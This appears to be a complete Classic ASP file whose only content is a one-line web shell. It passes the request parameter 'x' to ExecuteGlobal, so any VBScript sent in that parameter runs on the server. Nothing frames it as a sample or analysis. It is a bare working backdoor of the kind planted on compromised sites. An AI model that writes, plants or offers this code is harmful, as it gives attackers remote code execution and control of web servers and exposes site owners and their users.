<%
ExecuteGlobal Request.Item("x")
%>
